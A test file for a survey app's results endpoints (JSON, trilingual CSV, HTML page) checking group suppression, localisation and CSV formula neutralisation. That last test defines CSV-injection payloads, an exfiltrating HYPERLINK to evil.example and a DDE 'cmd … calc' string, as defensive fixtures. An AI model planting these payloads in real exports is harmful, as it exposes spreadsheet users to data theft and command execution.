/**
 * The results (§7) through the real app and SQLite: the JSON snapshot (of an invite-only survey,
 * the only kind with breakdowns), the CSV in three languages with spreadsheet formulas
 * neutralised, and the HTML page with its charts, tables, markers and numbers formatted for the
 * reader's language.
 */
import { describe, expect, it } from 'vitest';
import { createI18n, LOCALES, type Locale } from '../../src/i18n/index.js';
import type { SurveyDefinition } from '../../src/surveys/definition.js';
import { elements, text } from '../html.js';
import { closeSurvey, inviteCodes, L, makeApp, openSurvey, sampleSurvey, shown, submit, type TestApp } from '../helpers.js';

const i18n = createI18n();
const tr = (locale: string, key: string, params: Record<string, unknown> = {}) => i18n.getFixedT(locale)(key, params);

const SLUG = 'learning-lab-2026';
const DAY = '2026-11-27';
const now = () => new Date(`${DAY}T09:30:00Z`);
const M = { suppressed: true };

type Answers = Record<string, unknown>;
const a = (region: string | undefined, speak_freely: number, activities: string[], extra: Answers = {}): Answers => ({
  ...(region === undefined ? {} : { region }),
  speak_freely,
  activities,
  ...extra,
});

/**
 * Twenty responses to sampleSurvey(): africa 8, americas 7, asia 2, prefer_not_to_say 3 (one
 * chosen, two skipped). speak_freely has a mean of exactly 3.5 overall and in africa; one person
 * had a visit; only four answered usefulness; six left a comment.
 */
const RESPONSES: Answers[] = [
  a('africa', 5, ['calls', 'visits'], { usefulness: 8, suggestions: 'More peer calls.' }),
  a('africa', 5, ['calls', 'mentoring'], { usefulness: 9, suggestions: 'Shorter reports.' }),
  a('africa', 4, ['calls'], { usefulness: 7 }),
  a('africa', 4, ['mentoring'], { usefulness: 6 }),
  a('africa', 3, ['calls']),
  a('africa', 3, ['mentoring'], { suggestions: 'Meet in person.' }),
  a('africa', 2, ['calls']),
  a('africa', 2, ['calls', 'mentoring']),
  a('americas', 5, ['calls'], { suggestions: 'Translate everything.' }),
  a('americas', 4, ['calls']),
  a('americas', 4, ['calls']),
  a('americas', 4, ['calls']),
  a('americas', 4, ['mentoring']),
  a('americas', 3, ['mentoring'], { suggestions: 'Fewer forms.' }),
  a('americas', 3, ['mentoring']),
  a('asia', 2, ['calls']),
  a('asia', 5, ['mentoring']),
  a('prefer_not_to_say', 3, ['calls'], { suggestions: 'Keep the calls.' }),
  a(undefined, 4, ['calls', 'mentoring']),
  a(undefined, 1, ['mentoring']),
];

const REGION_GROUPS = ['africa', 'americas', 'asia', 'prefer_not_to_say'];

/** The final release of RESPONSES to the invite-only sampleSurvey, as §6 makes it (k = 5, c = 1), 20 codes issued. */
const EXPECTED = {
  survey: SLUG,
  minGroupSize: 5,
  minDiversity: 1,
  releasedAt: DAY,
  final: true,
  invitations: { issued: 20 },
  respondents: { n: 20 },
  releases: [],
  questions: [
    // Group sizes: asia (2) is hidden, and prefer_not_to_say (3) with it (its complement).
    {
      id: 'region',
      type: 'single_choice',
      required: false,
      grouping: true,
      options: ['africa', 'americas', 'asia'],
      overall: { n: 20, counts: { africa: 8, americas: 7, asia: M, prefer_not_to_say: M } },
      breakdowns: {},
    },
    {
      id: 'speak_freely',
      type: 'likert',
      required: true,
      grouping: false,
      overall: { n: 20, counts: { 1: 1, 2: 3, 3: 5, 4: 7, 5: 4 }, mean: 3.5 },
      breakdowns: {
        region: [
          { group: 'africa', n: 8, counts: { 1: 0, 2: 2, 3: 2, 4: 2, 5: 2 }, mean: 3.5 },
          { group: 'americas', n: 7, counts: { 1: 0, 2: 0, 3: 2, 4: 4, 5: 1 }, mean: 3.86 },
          { group: 'asia', suppressed: true },
          { group: 'prefer_not_to_say', suppressed: true },
        ],
      },
    },
    {
      id: 'activities',
      type: 'multi_choice',
      required: false,
      grouping: false,
      options: ['calls', 'mentoring', 'visits'],
      // One visit: hidden overall, and in every group.
      overall: { n: 20, counts: { calls: 13, mentoring: 10, visits: M } },
      breakdowns: {
        region: [
          { group: 'africa', n: 8, counts: { calls: 6, mentoring: 4, visits: M } },
          { group: 'americas', n: 7, counts: { calls: 4, mentoring: 3, visits: M } },
          { group: 'asia', suppressed: true },
          { group: 'prefer_not_to_say', suppressed: true },
        ],
      },
    },
    {
      id: 'usefulness',
      type: 'rating',
      required: false,
      grouping: false,
      min: 0,
      max: 10,
      overall: M,
      breakdowns: { region: REGION_GROUPS.map((group) => ({ group, suppressed: true })) },
    },
    { id: 'suggestions', type: 'text', required: false, grouping: false, comments: { n: 6 } },
  ],
  // 14 markers: 2 group sizes, 2 + 5 + 5 in the questions.
  audit: { passed: true, hiddenFigures: 14, solver: expect.stringMatching(/\S/) },
};

/** Opens the survey (invite-only sampleSurvey unless given), submits the responses (with a code each where the survey asks for one), closes it and waits for its final release. */
async function finalRelease(options: { responses?: Answers[]; definition?: SurveyDefinition } = {}): Promise<TestApp> {
  const t = await makeApp({}, { now });
  const definition = options.definition ?? sampleSurvey({ access: 'invite' });
  const responses = options.responses ?? RESPONSES;
  await openSurvey(t, definition);
  const codes = definition.access === 'invite' ? await inviteCodes(t, definition.slug, responses.length) : [];
  for (const [i, answers] of responses.entries()) {
    const res = await submit(t, definition.slug, { answers, ...(codes[i] ? { inviteCode: codes[i] } : {}) });
    if (res.statusCode !== 201) throw new Error(`submit failed: ${res.statusCode} ${res.body}`);
  }
  await closeSurvey(t, definition.slug);
  return t;
}

const get = (t: TestApp, url: string, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, headers });

/** Every cell object of a results body (respondents, overall, groups, multi-choice option counts, comments). */
function* cells(body: typeof EXPECTED | Record<string, unknown>): Generator<Record<string, unknown>> {
  const b = body as { respondents: Record<string, unknown>; questions: Record<string, unknown>[] };
  yield b.respondents;
  for (const q of b.questions) {
    for (const cell of [q.overall, q.comments, ...Object.values((q.breakdowns ?? {}) as Record<string, unknown[]>).flat()]) {
      if (cell === undefined) continue;
      const c = cell as Record<string, unknown>;
      yield c;
      for (const x of Object.values((c.counts ?? {}) as Record<string, unknown>)) if (typeof x === 'object') yield x as Record<string, unknown>;
    }
  }
}

describe('GET /api/surveys/:slug/results', () => {
  it('answers 404 with a translated "no results yet" before any release', async () => {
    const t = await makeApp();
    await openSurvey(t);
    await submit(t, SLUG, { answers: RESPONSES[0] });
    for (const lang of LOCALES) {
      const res = await get(t, `/api/surveys/${SLUG}/results?lang=${lang}`);
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ statusCode: 404, error: 'no_results_yet', message: tr(lang, 'errors:no_results_yet') });
      const csv = await get(t, `/api/surveys/${SLUG}/results.csv?lang=${lang}`);
      expect(csv.statusCode).toBe(404);
      const page = await get(t, `/s/${SLUG}/results?lang=${lang}`);
      expect(page.statusCode).toBe(404);
      expect(text(page.body)).toContain(tr(lang, 'errors:no_results_yet'));
    }
    // The three messages really are three languages.
    expect(new Set(LOCALES.map((l) => tr(l, 'errors:no_results_yet'))).size).toBe(3);
    // Live figures are never shown instead, and an unknown survey is a plain 404.
    expect((await get(t, '/api/surveys/nope/results')).json()).toMatchObject({ statusCode: 404, error: 'survey_not_found' });
  });

  it('answers the released snapshot in the shape of §7, to anyone', async () => {
    const t = await finalRelease();
    const res = await get(t, `/api/surveys/${SLUG}/results`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json()).toEqual(EXPECTED);
  });

  it('gives suppressed cells exactly { suppressed: true }, and text questions only a comment count', async () => {
    const t = await finalRelease();
    const body = (await get(t, `/api/surveys/${SLUG}/results`)).json() as Record<string, unknown>;
    let markers = 0;
    for (const cell of cells(body)) {
      if (cell.suppressed === undefined) continue;
      markers++;
      // No n, counts, mean, percentage or reason beside the marker.
      const { group: _group, ...rest } = cell;
      expect(rest).toEqual({ suppressed: true });
    }
    expect(markers).toBe(14);
    const suggestions = (body.questions as Record<string, unknown>[]).find((q) => q.id === 'suggestions')!;
    expect(Object.keys(suggestions)).toEqual(['id', 'type', 'required', 'grouping', 'comments']);
    // The comments themselves are not part of any release.
    expect(JSON.stringify(body)).not.toContain('peer calls');
  });

  it('publishes the respondent count only in an interim release, and every figure afresh in the release made at close', async () => {
    const t = await makeApp({}, { now });
    await openSurvey(t, sampleSurvey({ access: 'invite', interimReleases: true }));
    const codes = await inviteCodes(t, SLUG, 13);
    for (const [i, answers] of RESPONSES.slice(0, 10).entries()) await submit(t, SLUG, { answers, inviteCode: codes[i] });
    expect((await t.app.inject({ method: 'POST', url: `/api/surveys/${SLUG}/release`, headers: t.as('staff') })).json()).toMatchObject({ released: true });
    const interim = (await get(t, `/api/surveys/${SLUG}/results`)).json();
    expect(interim).toEqual({
      survey: SLUG,
      minGroupSize: 5,
      minDiversity: 1,
      releasedAt: DAY,
      final: false,
      invitations: { issued: 13 },
      respondents: { n: 10 },
      releases: [],
      // No figure of any question: no overall, no group sizes, no breakdowns, no comments.
      questions: [],
    });
    // The page shows no question either.
    expect(sections((await get(t, `/s/${SLUG}/results?lang=fr`)).body).size).toBe(0);

    // Three more, then close: fewer than k were added, yet the final release publishes all 13.
    for (const [i, answers] of RESPONSES.slice(10, 13).entries()) await submit(t, SLUG, { answers, inviteCode: codes[10 + i] });
    await closeSurvey(t, SLUG);
    const final = (await get(t, `/api/surveys/${SLUG}/results`)).json();
    expect(final).toMatchObject({ final: true, respondents: { n: 13 }, releases: [{ releasedAt: DAY, respondents: { n: 10 } }], audit: { passed: true } });
    expect(JSON.stringify(final)).not.toContain('stale');
    const speak = final.questions.find((q: { id: string }) => q.id === 'speak_freely');
    // RESPONSES 0–12 answered speak_freely 5 5 4 4 3 3 2 2 5 4 4 4 4.
    expect(speak.overall).toEqual({ n: 13, counts: { 1: 0, 2: 2, 3: 2, 4: 6, 5: 3 }, mean: 3.77 });
    expect(sections((await get(t, `/s/${SLUG}/results?lang=fr`)).body).size).toBe(5);
  });

  it('publishes no breakdown for an open survey: every group is the marker, the group sizes stay', async () => {
    const t = await finalRelease({ definition: sampleSurvey() });
    const body = (await get(t, `/api/surveys/${SLUG}/results`)).json() as typeof EXPECTED;
    expect(body).not.toHaveProperty('invitations');
    for (const q of body.questions) {
      if (!('breakdowns' in q) || q.grouping) continue;
      expect(q.breakdowns, q.id).toEqual({ region: REGION_GROUPS.map((group) => ({ group, suppressed: true })) });
    }
    expect(body.questions[0]!.overall).toEqual(EXPECTED.questions[0]!.overall);
    expect(body.questions[1]!.overall).toEqual(EXPECTED.questions[1]!.overall);
  });

  it('returns byte-identical bodies on every read', async () => {
    const t = await finalRelease();
    const first = await get(t, `/api/surveys/${SLUG}/results`);
    const again = await get(t, `/api/surveys/${SLUG}/results?lang=fr`, t.as('staff'));
    expect(again.body).toBe(first.body);
    expect(again.headers.etag).toBe(first.headers.etag);
  });
});

// ---------------------------------------------------------------------------------------------

/** A small RFC 4180 reader (csv-stringify quotes with "" and ends records with \n), with this separator. */
function parseCsv(csv: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) row.push(cell), (cell = '');
    else if (ch === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += ch;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

const COLUMNS = ['survey', 'question_id', 'question', 'breakdown', 'group', 'respondents', 'answer_value', 'answer', 'count', 'percent', 'mean', 'note'];
const survey = sampleSurvey();
const prompt = (id: string, lang: Locale) => survey.questions.find((q) => q.id === id)!.prompt[lang];
const REGION_LABELS = { en: ['Africa', 'Americas', 'Asia'], es: ['África', 'Américas', 'Asia'], fr: ['Afrique', 'Amériques', 'Asie'] } as const;

describe('GET /api/surveys/:slug/results.csv', () => {
  it('has headers and labels in the language asked for', async () => {
    const t = await finalRelease();
    for (const lang of LOCALES) {
      const res = await get(t, `/api/surveys/${SLUG}/results.csv?lang=${lang}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toContain(`-${lang}.csv`);
      expect(res.body.startsWith('\ufeff')).toBe(true);
      // What each language's spreadsheets expect: "," and "3.5" in English, ";" and "3,5" in Spanish and French.
      const separator = lang === 'en' ? ',' : ';';
      const mean = lang === 'en' ? '3.5' : '3,5';
      const rows = parseCsv(res.body.slice(1), separator);
      expect(res.body.split('\n')[0]!.split(separator)).toHaveLength(COLUMNS.length);
      expect(rows[0]).toEqual(COLUMNS.map((c) => tr(lang, `results:csv.${c}`)));
      const marker = tr(lang, 'results:marker');
      const [africa, , asia] = REGION_LABELS[lang];

      expect(rows).toContainEqual([SLUG, '', tr(lang, 'results:respondents'), '', '', '20', '', '', '', '', '', '']);
      // speak_freely overall, answer 4: 7 of 20, mean 3.5.
      const likert4 = `4 · ${tr(lang, 'form:likert.4')}`;
      expect(rows).toContainEqual([SLUG, 'speak_freely', prompt('speak_freely', lang), tr(lang, 'results:overall'), '', '20', '4', likert4, '7', '35', mean, '']);
      // By region: africa published, asia the marker.
      expect(rows).toContainEqual([SLUG, 'speak_freely', prompt('speak_freely', lang), prompt('region', lang), africa, '8', '4', likert4, '2', '25', mean, '']);
      expect(rows).toContainEqual([SLUG, 'speak_freely', prompt('speak_freely', lang), prompt('region', lang), asia, '', '', '', '', '', '', marker]);
      expect(rows).toContainEqual([SLUG, 'speak_freely', prompt('speak_freely', lang), prompt('region', lang), tr(lang, 'form:prefer_not_to_say'), '', '', '', '', '', '', marker]);
      // A hidden multi-choice option: the marker, no count.
      const visits = survey.questions.find((q) => q.id === 'activities')!;
      const visitsLabel = visits.type === 'multi_choice' ? visits.options[2]!.label[lang] : '';
      expect(rows).toContainEqual([SLUG, 'activities', prompt('activities', lang), tr(lang, 'results:overall'), '', '20', 'visits', visitsLabel, '', '', '', marker]);
      expect(rows).toContainEqual([SLUG, 'suggestions', prompt('suggestions', lang), tr(lang, 'results:overall'), '', '', '', tr(lang, 'results:comments'), '6', '', '', '']);

      // Nothing of the other two languages.
      for (const other of LOCALES.filter((l) => l !== lang)) {
        expect(res.body).not.toContain(prompt('region', other));
        expect(res.body).not.toContain(tr(other, 'results:marker'));
        expect(res.body).not.toContain(tr(other, 'results:csv.breakdown'));
      }
    }
  });

  it('neutralises spreadsheet formulas in every text taken from the definition', async () => {
    const evil = {
      hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      plus: '+SUM(1,2)',
      minus: '-2+3+cmd|\' /C calc\'!A0',
      at: '@SUM(1,1)',
    };
    const definition: SurveyDefinition = {
      slug: 'formulas',
      title: L('Formulas', 'Fórmulas', 'Formules'),
      questions: [
        {
          id: 'pick',
          type: 'single_choice',
          prompt: L('=1+1 (en)', '=1+1 (es)', '=1+1 (fr)'),
          options: Object.entries(evil).map(([value, label]) => ({ value, label: L(label, label, label) })),
        },
      ],
    };
    const picks = ['hyperlink', 'hyperlink', 'plus', 'plus', 'minus', 'minus', 'at', 'at'];
    const t = await finalRelease({ definition, responses: picks.map((pick) => ({ pick })) });
    for (const lang of LOCALES) {
      const res = await get(t, `/api/surveys/formulas/results.csv?lang=${lang}`);
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.body.slice(1), lang === 'en' ? ',' : ';');
      const cellsOut = rows.flat();
      // No cell starts with a character a spreadsheet reads as a formula …
      for (const cell of cellsOut) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      // … because each one that did got a leading apostrophe, and is otherwise intact.
      for (const label of Object.values(evil)) expect(cellsOut).toContain(`'${label}`);
      expect(cellsOut).toContain(`'=1+1 (${lang})`);
      // The figures themselves are still there.
      expect(rows).toContainEqual(['formulas', 'pick', `'=1+1 (${lang})`, tr(lang, 'results:overall'), '', '8', 'hyperlink', `'${evil.hyperlink}`, '2', '25', '', '']);
    }
  });
});

// ---------------------------------------------------------------------------------------------

/** The <section> of each question, by question id. */
function sections(html: string): Map<string, string> {
  return new Map([...html.matchAll(/<section aria-labelledby="q-([a-z_]+)">([\s\S]*?)<\/section>/g)].map((m) => [m[1]!, m[2]!]));
}

/** How many markers the page must show for a results body: one per suppressed figure. */
function markerCount(body: typeof EXPECTED): number {
  let n = 0;
  for (const cell of cells(body)) if (cell.suppressed === true) n++;
  return n;
}

describe('GET /s/:slug/results', () => {
  it('renders the page in the reader\'s language: a chart and a table per question, the marker for every suppressed figure', async () => {
    const t = await finalRelease();
    const body = (await get(t, `/api/surveys/${SLUG}/results`)).json() as typeof EXPECTED;
    for (const lang of LOCALES) {
      const res = await get(t, `/s/${SLUG}/results?lang=${lang}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      const html = res.body;
      expect(html).toMatch(new RegExp(`<html[^>]*\\slang="${lang}"`));
      // No JavaScript.
      expect(html).not.toMatch(/<script/i);

      const bySection = sections(html);
      expect([...bySection.keys()]).toEqual(['region', 'speak_freely', 'activities', 'usefulness', 'suggestions']);
      for (const id of ['region', 'speak_freely', 'activities']) {
        const section = bySection.get(id)!;
        expect(text(elements(section, 'h2')[0]!)).toBe(shown(prompt(id, lang), lang));
        // A bar chart (HTML bars, each an SVG stretched by CSS) and the same figures as a table, for screen readers.
        expect(section, id).toMatch(/<svg[\s>]/);
        expect(section, id).toMatch(/<table[\s>]/);
      }
      // Breakdowns are tables too, with the groups in the reader's language.
      expect(elements(bySection.get('speak_freely')!, 'table')).toHaveLength(2);
      expect(text(bySection.get('speak_freely')!)).toContain(REGION_LABELS[lang][0]);
      // A suppressed overall figure: the marker, no chart.
      expect(bySection.get('usefulness')!).not.toMatch(/<svg[\s>]/);
      expect(text(bySection.get('suggestions')!)).toContain(`${tr(lang, 'results:comments_received')} 6`);

      // Every suppressed figure is shown as the one marker, in this language, and nothing else.
      const marker = tr(lang, 'results:marker');
      const markers = [...html.matchAll(/<span class="marker">([\s\S]*?)<\/span>/g)].map((m) => text(m[1]!));
      expect(markers).toHaveLength(markerCount(body));
      expect(new Set(markers)).toEqual(new Set([marker]));
    }
  });

  it('heads the page with the survey title under a small "Results", never "Results: title: subtitle"', async () => {
    const title = L('Learning lab 2026: what partners think', 'Laboratorio de aprendizaje 2026: lo que opinan las organizaciones socias', 'Laboratoire d’apprentissage 2026 : l’avis des partenaires');
    const t = await finalRelease({ definition: { ...sampleSurvey({ access: 'invite' }), title } });
    for (const lang of LOCALES) {
      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
      const h1 = elements(html, 'h1');
      expect(h1).toHaveLength(1);
      const kicker = /^\s*<span class="kicker">([\s\S]*?<\/span>)\s*<\/span>([\s\S]*)$/.exec(h1[0]!);
      expect(kicker, h1[0]).not.toBeNull();
      expect(text(kicker![1]!)).toBe(`${tr(lang, 'results:title_label')} —`);
      expect(text(kicker![2]!)).toBe(shown(title[lang], lang));
      // One colon, the survey's own: heard as "Results — title", read as the label above the title.
      expect(text(h1[0]!).match(/:/g)).toHaveLength(1);
      expect(text(elements(html, 'title')[0]!)).toBe(`${shown(tr(lang, 'results:title', { title: title[lang] }), lang)} · Candor`);
    }
  });

  it('offers the two spreadsheets as a list of two links, each saying on its own what it downloads', async () => {
    const t = await finalRelease();
    for (const lang of LOCALES) {
      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
      const lists = [...html.matchAll(/<ul class="downloads">([\s\S]*?)<\/ul>/g)].map((m) => m[1]!);
      expect(lists).toHaveLength(1);
      const items = elements(lists[0]!, 'li');
      expect(items.map(text)).toEqual([shown(tr(lang, 'results:download_csv'), lang), shown(tr(lang, 'results:download_csv_wide'), lang)]);
      expect(items.map((li) => /href="([^"]*)"/.exec(li)?.[1])).toEqual([`/api/surveys/${SLUG}/results.csv?lang=${lang}`, `/api/surveys/${SLUG}/results.csv?layout=wide&amp;lang=${lang}`]);
      // Both start alike and differ only by how the rows are laid out: neither leans on the other.
      const [long, wide] = [tr(lang, 'results:download_csv'), tr(lang, 'results:download_csv_wide')];
      const common = long.slice(0, [...long].findIndex((c, i) => c !== wide[i]));
      expect(common.length, lang).toBeGreaterThan(20);
      expect(`${long} ${wide}`).not.toMatch(/wide|ancho|large/i);
    }
  });

  it('never gives a reason beside a suppressed figure', async () => {
    const t = await finalRelease();
    for (const lang of LOCALES) {
      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
      // The results themselves: everything after the general "how to read" notice.
      const results = text(html.slice(html.indexOf('<section aria-labelledby="q-')));
      // asia and prefer_not_to_say are hidden by rule 1, the visits option by rule 2, usefulness
      // overall by rule 1 again: the reader sees the same words for each, and no threshold.
      expect(results).not.toMatch(/fewer than|menos de|moins de|< ?5|\bk\b|threshold|umbral|seuil/i);
      expect(results).not.toContain(tr(lang, 'results:explain_marker', { marker: tr(lang, 'results:marker'), k: 5 }));
    }
  });

  it('formats numbers for the language with Intl: a mean of 3.5 is 3.50 in English, 3,50 in Spanish and French', async () => {
    const t = await finalRelease();
    const means = { en: ['3.50', '3.86'], es: ['3,50', '3,86'], fr: ['3,50', '3,86'] } as const;
    for (const lang of LOCALES) {
      const html = (await get(t, `/s/${SLUG}/results?lang=${lang}`)).body;
      const page = text(html);
      for (const mean of means[lang]) expect(page).toContain(mean);
      for (const other of LOCALES.filter((l) => l !== lang && means[l][0] !== means[lang][0])) expect(page).not.toContain(means[other][0]);
      // Percentages (7 of 20 answered 4) and the release day, as Intl writes them (with their
      // no-break spaces, hence the raw HTML).
      expect(html).toContain(new Intl.NumberFormat(lang, { style: 'percent', maximumFractionDigits: 0 }).format(0.35));
      expect(html).toContain(new Intl.DateTimeFormat(lang, { dateStyle: 'long', timeZone: 'UTC' }).format(new Date(`${DAY}T00:00:00Z`)));
    }
  });
});
